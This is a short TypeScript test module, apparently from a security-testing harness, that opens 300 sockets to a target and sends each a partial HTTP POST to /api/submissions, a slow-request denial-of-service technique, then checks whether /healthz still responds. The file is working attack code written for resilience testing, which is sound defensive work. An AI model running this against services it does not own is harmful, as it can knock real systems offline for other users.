// api → held: begins three hundred requests and sends a byte of each, so that nobody else is served
import { connect } from 'node:net'
import type { Target } from '../../../tools/attack/service.ts'
import { assert, Visitor } from '../kits/visitor.ts'

export async function attack(target: Target): Promise<string> {
  const { hostname, port } = new URL(target.address)
  const sockets = Array.from({ length: 300 }, () => connect(Number(port), hostname))
  try {
    for (const socket of sockets) {
      socket.on('error', () => {})
      socket.write(`POST /api/submissions HTTP/1.1\r\nHost: ${new URL(target.address).host}\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{`)
    }
    const { status } = await new Visitor(target).ask('/healthz', { signal: AbortSignal.timeout(5000) })
    assert(status === 200, `others got ${status}`)
    return 'held'
  } finally {
    for (const socket of sockets) socket.destroy()
  }
}
